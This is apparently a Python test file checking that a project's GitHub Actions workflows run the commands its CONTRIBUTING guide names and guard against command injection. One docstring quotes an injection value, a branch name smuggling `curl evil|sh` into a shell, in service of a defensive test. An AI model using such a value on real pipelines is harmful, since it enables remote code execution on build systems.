"""The workflows run the commands CONTRIBUTING.md's "What CI runs" names, so a contributor's local
`--base auto` check and sign-off check are CI's (issue #9 item 7). (The schema check of every workflow
file is tests' other business; this reads the lines that matter as text.)
"""

from __future__ import annotations

import re

from ..support.paths import REPO

WORKFLOWS = REPO / ".github" / "workflows"


def _runs(name: str) -> list[str]:
    """Each single-line `run:` command of a workflow file, in order."""
    text = (WORKFLOWS / name).read_text(encoding="utf-8")
    return [m.group(1).strip() for m in re.finditer(r"^\s*run:\s*(\S.*)$", text, re.MULTILINE) if m.group(1) != "|"]


def test_entries_workflow_runs_the_tests_then_the_gate():
    runs = _runs("ci.yml")
    assert runs == ["bash .ci/run", "exchange verifier fetch",
                    'exchange check --base "origin/$BASE_REF" --format github', "exchange check"]
    text = (WORKFLOWS / "ci.yml").read_text(encoding="utf-8")
    assert "BASE_REF: ${{ github.base_ref }}" in text and "fetch-depth: 0" in text


def test_dco_workflow_runs_exchange_signoff_on_the_base_commit():
    text = (WORKFLOWS / "dco.yml").read_text(encoding="utf-8")
    assert _runs("dco.yml")[-1] == 'exchange signoff --base "$BASE" --format github'
    assert "BASE: ${{ github.event.pull_request.base.sha }}" in text
    assert "ref: ${{ github.event.pull_request.head.sha }}" in text and "fetch-depth: 0" in text
    assert "rev-list" not in text and "grep" not in text               # no shell loop beside the command


def test_contributing_names_the_same_commands():
    text = (REPO / "CONTRIBUTING.md").read_text(encoding="utf-8")
    section = text[text.index("### What CI runs"):]
    for command in ("exchange check --base origin/<base branch> --format github", "exchange check --base auto",
                    "exchange signoff --base <the pull request's base commit> --format github",
                    "exchange signoff --base auto", "bash .ci/run"):
        assert command in section, command


def test_no_expression_is_expanded_inside_a_run_line():
    """Attack: a branch name like `a";curl evil|sh;"` reaching a shell through `${{ … }}` in a run line.
    Every value the entries and dco workflows take from the event goes through `env:`, quoted in the
    command."""
    for name in ("ci.yml", "dco.yml"):
        lines = (WORKFLOWS / name).read_text(encoding="utf-8").splitlines()
        for i, line in enumerate(lines):
            if not line.strip().startswith("run:"):
                continue
            indent = len(line) - len(line.lstrip())
            block = [line]
            for later in lines[i + 1:]:
                if later.strip() and len(later) - len(later.lstrip()) <= indent:
                    break
                block.append(later)
            assert not any("${{" in b for b in block), f"{name}: {line.strip()}"
